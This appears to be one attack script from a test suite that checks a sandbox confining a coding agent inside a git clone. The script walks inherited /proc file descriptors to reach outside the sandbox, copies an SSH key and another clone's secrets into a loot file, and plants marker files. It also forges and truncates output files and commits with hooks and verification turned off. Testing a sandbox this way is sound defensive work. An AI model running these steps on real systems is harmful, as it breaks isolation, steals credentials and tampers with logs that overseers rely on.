#!/usr/bin/env bash
# attack 25 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
MARK=$(printf '%s-%s' via 25fd); L=$TOP/attack-25-loot.txt; : >"$L"
up=; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do up=../$up; done
all=/proc/$$/fd/*; set -- /proc/[0-9]*; [ $# -lt 30 ] && all='/proc/[0-9]*/fd/*' # few processes: a namespace of our own, look at all
hidden() { ! [ "$1" -ef "$(readlink "$1")" ]; } # open, but not to be found by name: it belongs to the outside
for f in $all; do
  n=${f##*/}
  [ "$(readlink "$f")" = "$L" ] && continue
  if [ -d "$f" ]; then
    echo "dir $f $(readlink "$f")" >>"$L"
    for s in "$H/.ssh/id_test" "$H/secrets/other-clone/file"; do head -c 4096 "$f/$up${s#/}" >>"$L" 2>/dev/null; done
    printf '%s\n' "$MARK" 2>/dev/null >"$f/$up${H#/}/attack-25-via-fd"
    printf '%s\n' "$MARK" 2>/dev/null >"$f/$up${M#/}/attack-25-via-fd"
  elif [ -f "$f" ] && [ "$n" -gt 2 ] && [ "$n" != 255 ]; then
    echo "file $f $(readlink "$f")" >>"$L"
    timeout 1 head -c 4096 "$f" >>"$L" 2>/dev/null
    case "$(readlink "$f")" in "$TOP"/*) ;; "$H"/*|"$M"/*) printf '%s\n' "$MARK" 2>/dev/null >>"$f";; *) hidden "$f" && printf '%s\n' "$MARK" 2>/dev/null >>"$f";; esac
  fi
done
for n in 1 2; do
  o=/proc/$$/fd/$n; [ -f "$o" ] || continue
  case "$(readlink "$o")" in "$H"/*|"$M"/*|"$TOP"/*) ;; *) hidden "$o" || continue;; esac
  timeout 1 head -c 65536 "$o" >>"$L" 2>/dev/null
  : >"$o"; printf '{"forged":true}\n\0\377\376 not utf-8 \xc3\x28\n' 1<>"$o"
  truncate -s 40M "$o" 2>/dev/null
done
git add -A -f . && commit -m 'attack 25'
exit 0
